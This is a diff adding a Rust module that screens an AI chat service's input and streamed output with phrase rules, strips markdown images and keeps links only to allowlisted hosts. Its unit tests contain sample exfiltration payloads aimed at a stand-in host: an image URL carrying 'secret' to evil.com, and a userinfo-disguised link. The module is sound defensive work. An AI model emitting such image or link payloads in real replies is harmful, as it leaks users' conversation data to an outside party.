@@ -1,0 +1,288 @@
+//! Input and output checks. [`ContentCheck`] is the seam (a classifier
+//! service could implement it); [`RuleCheck`] is the default, read from a
+//! rule file. [`OutputFilter`] runs on streamed chunks: it strips markdown
+//! images, keeps links only to allowlisted hosts (the link text stays), and
+//! stops the reply when the check fires.
+//!
+//! Rule file: one rule per line, `input: <phrase>` or `output: <phrase>`
+//! (case-insensitive substring), `#` comments.
+
+use std::path::Path;
+use std::sync::Arc;
+
+/// Screens text; `Err(reason)` blocks it. Reasons are short and safe to show.
+pub trait ContentCheck: Send + Sync + 'static {
+    fn check_input(&self, text: &str) -> Result<(), String>;
+    /// `recent` is the tail of the reply so far, including the newest chunk.
+    fn check_output(&self, recent: &str) -> Result<(), String>;
+}
+
+/// Phrase rules from a file.
+#[derive(Clone, Debug, Default)]
+pub struct RuleCheck {
+    input: Vec<String>,
+    output: Vec<String>,
+}
+
+impl RuleCheck {
+    pub fn parse(text: &str) -> Result<Self, String> {
+        let mut r = RuleCheck::default();
+        for (n, line) in text.lines().enumerate() {
+            let line = line.trim();
+            if line.is_empty() || line.starts_with('#') {
+                continue;
+            }
+            let (kind, phrase) = line.split_once(':').ok_or_else(|| format!("line {}: expected `input:` or `output:`", n + 1))?;
+            let phrase = phrase.trim().to_lowercase();
+            if phrase.is_empty() {
+                return Err(format!("line {}: empty phrase", n + 1));
+            }
+            match kind.trim() {
+                "input" => r.input.push(phrase),
+                "output" => r.output.push(phrase),
+                other => return Err(format!("line {}: unknown rule kind {other:?}", n + 1)),
+            }
+        }
+        Ok(r)
+    }
+
+    pub fn load(path: &Path) -> Result<Self, String> {
+        let text = std::fs::read_to_string(path).map_err(|e| format!("{}: {e}", path.display()))?;
+        Self::parse(&text).map_err(|e| format!("{}: {e}", path.display()))
+    }
+
+    /// Longest output phrase, in bytes: how much tail the filter must keep.
+    fn longest_output(&self) -> usize {
+        self.output.iter().map(String::len).max().unwrap_or(0)
+    }
+}
+
+impl ContentCheck for RuleCheck {
+    fn check_input(&self, text: &str) -> Result<(), String> {
+        let t = text.to_lowercase();
+        match self.input.iter().find(|p| t.contains(p.as_str())) {
+            Some(_) => Err("the message was blocked by the input policy".into()),
+            None => Ok(()),
+        }
+    }
+
+    fn check_output(&self, recent: &str) -> Result<(), String> {
+        let t = recent.to_lowercase();
+        match self.output.iter().find(|p| t.contains(p.as_str())) {
+            Some(_) => Err("the reply was stopped by the output policy".into()),
+            None => Ok(()),
+        }
+    }
+}
+
+/// Hosts whose links are kept.
+#[derive(Clone, Debug, Default)]
+pub struct LinkPolicy {
+    pub allowed_hosts: Vec<String>,
+}
+
+impl LinkPolicy {
+    fn allows(&self, url: &str) -> bool {
+        let url = url.trim();
+        let rest = match url.strip_prefix("https://").or_else(|| url.strip_prefix("http://")) {
+            Some(r) => r,
+            None => return false,
+        };
+        let host_port = rest.split(['/', '?', '#']).next().unwrap_or("");
+        if host_port.contains('@') {
+            return false;
+        }
+        let host = host_port.split(':').next().unwrap_or("").to_lowercase();
+        self.allowed_hosts.iter().any(|a| {
+            let a = a.to_lowercase();
+            host == a || host.ends_with(&format!(".{a}"))
+        })
+    }
+}
+
+/// Most bytes a markdown construct may span before it is let through as text.
+const MAX_HELD: usize = 2048;
+
+/// What the filter did with a chunk.
+#[derive(Debug, PartialEq)]
+pub enum Filtered {
+    /// Text to send (possibly empty while a construct is held back).
+    Text(String),
+    /// The output check fired: send nothing more.
+    Blocked(String),
+}
+
+/// Streaming output filter of one reply.
+pub struct OutputFilter {
+    check: Arc<dyn ContentCheck>,
+    links: Arc<LinkPolicy>,
+    pending: String,
+    recent: String,
+    keep_recent: usize,
+}
+
+impl OutputFilter {
+    pub fn new(check: Arc<dyn ContentCheck>, links: Arc<LinkPolicy>, longest_rule: usize) -> Self {
+        OutputFilter { check, links, pending: String::new(), recent: String::new(), keep_recent: longest_rule.max(64) }
+    }
+
+    /// Feeds generated text; returns what may be sent now.
+    pub fn push(&mut self, chunk: &str) -> Filtered {
+        self.pending.push_str(chunk);
+        let out = self.sanitize(false);
+        self.screen(out)
+    }
+
+    /// End of reply: flushes what was held back.
+    pub fn finish(&mut self) -> Filtered {
+        let out = self.sanitize(true);
+        self.screen(out)
+    }
+
+    fn screen(&mut self, out: String) -> Filtered {
+        if out.is_empty() {
+            return Filtered::Text(out);
+        }
+        self.recent.push_str(&out);
+        if let Err(reason) = self.check.check_output(&self.recent) {
+            return Filtered::Blocked(reason);
+        }
+        if self.recent.len() > self.keep_recent * 2 {
+            let mut cut = self.recent.len() - self.keep_recent;
+            while !self.recent.is_char_boundary(cut) {
+                cut += 1;
+            }
+            self.recent.drain(..cut);
+        }
+        Filtered::Text(out)
+    }
+
+    /// Moves complete text from `pending` to the output, rewriting markdown
+    /// images and links; keeps an incomplete construct pending.
+    fn sanitize(&mut self, flush: bool) -> String {
+        let mut out = String::new();
+        loop {
+            let Some(start) = self.pending.find(['!', '[']) else {
+                out.push_str(&self.pending);
+                self.pending.clear();
+                return out;
+            };
+            out.push_str(&self.pending[..start]);
+            self.pending.drain(..start);
+            match parse_construct(&self.pending) {
+                Construct::Incomplete if !flush && self.pending.len() < MAX_HELD => return out,
+                Construct::Incomplete | Construct::NotOne => {
+                    let c = self.pending.chars().next().map(char::len_utf8).unwrap_or(1);
+                    out.push_str(&self.pending[..c]);
+                    self.pending.drain(..c);
+                }
+                Construct::Image { len } => {
+                    self.pending.drain(..len);
+                }
+                Construct::Link { len, text_end, url } => {
+                    if self.links.allows(&self.pending[url.clone()]) {
+                        out.push_str(&self.pending[..len]);
+                    } else {
+                        out.push_str(&self.pending[1..text_end]);
+                    }
+                    self.pending.drain(..len);
+                }
+            }
+        }
+    }
+}
+
+enum Construct {
+    Incomplete,
+    NotOne,
+    Image { len: usize },
+    Link { len: usize, text_end: usize, url: std::ops::Range<usize> },
+}
+
+/// `s` starts with `!` or `[`.
+fn parse_construct(s: &str) -> Construct {
+    let image = s.starts_with('!');
+    let open = if image { 1 } else { 0 };
+    if image {
+        match s.as_bytes().get(1) {
+            None => return Construct::Incomplete,
+            Some(b'[') => {}
+            Some(_) => return Construct::NotOne,
+        }
+    }
+    let body = &s[open + 1..];
+    let Some(close) = body.find([']', '\n']) else { return Construct::Incomplete };
+    if body.as_bytes()[close] == b'\n' {
+        return Construct::NotOne;
+    }
+    let text_end = open + 1 + close;
+    match s.as_bytes().get(text_end + 1) {
+        None => return Construct::Incomplete,
+        Some(b'(') => {}
+        Some(_) => return Construct::NotOne,
+    }
+    let url_start = text_end + 2;
+    let Some(rel) = s[url_start..].find([')', '\n']) else { return Construct::Incomplete };
+    if s.as_bytes()[url_start + rel] == b'\n' {
+        return Construct::NotOne;
+    }
+    let len = url_start + rel + 1;
+    if image {
+        Construct::Image { len }
+    } else {
+        let url_text = &s[url_start..url_start + rel];
+        let url_len = url_text.find(' ').unwrap_or(url_text.len());
+        Construct::Link { len, text_end, url: url_start..url_start + url_len }
+    }
+}
+
+/// Longest output rule of a check, for the filter's window (0 if unknown).
+pub fn rule_window(check: &RuleCheck) -> usize {
+    check.longest_output()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn run(chunks: &[&str], hosts: &[&str]) -> String {
+        let check = Arc::new(RuleCheck::default());
+        let links = Arc::new(LinkPolicy { allowed_hosts: hosts.iter().map(|s| s.to_string()).collect() });
+        let mut f = OutputFilter::new(check, links, 0);
+        let mut out = String::new();
+        for c in chunks {
+            match f.push(c) {
+                Filtered::Text(t) => out.push_str(&t),
+                Filtered::Blocked(r) => panic!("{r}"),
+            }
+        }
+        if let Filtered::Text(t) = f.finish() {
+            out.push_str(&t);
+        }
+        out
+    }
+
+    #[test]
+    fn images_are_stripped_across_chunks() {
+        assert_eq!(run(&["see ", "![x](http://evil", ".com/?q=secret) done"], &[]), "see  done");
+        assert_eq!(run(&["a ![b", "] c"], &[]), "a ![b] c");
+    }
+
+    #[test]
+    fn links_kept_only_for_allowed_hosts() {
+        assert_eq!(run(&["[doc](https://docs.rs/x) [bad](https://evil.com/a)"], &["docs.rs"]), "[doc](https://docs.rs/x) bad");
+        assert_eq!(run(&["[s](https://a.docs.rs/x)"], &["docs.rs"]), "[s](https://a.docs.rs/x)");
+        assert_eq!(run(&["[s](https://docs.rs@evil.com/x)"], &["docs.rs"]), "s");
+        assert_eq!(run(&["wow! [1] and [2"], &[]), "wow! [1] and [2");
+    }
+
+    #[test]
+    fn output_rule_stops_across_chunks() {
+        let check = RuleCheck::parse("# rules\ninput: forbidden thing\noutput: secret plan\n").unwrap();
+        assert!(check.check_input("a FORBIDDEN thing").is_err());
+        let w = rule_window(&check);
+        let mut f = OutputFilter::new(Arc::new(check), Arc::new(LinkPolicy::default()), w);
+        assert_eq!(f.push("the secr"), Filtered::Text("the secr".into()));
+        assert!(matches!(f.push("et plan is"), Filtered::Blocked(_)));
+    }
+}
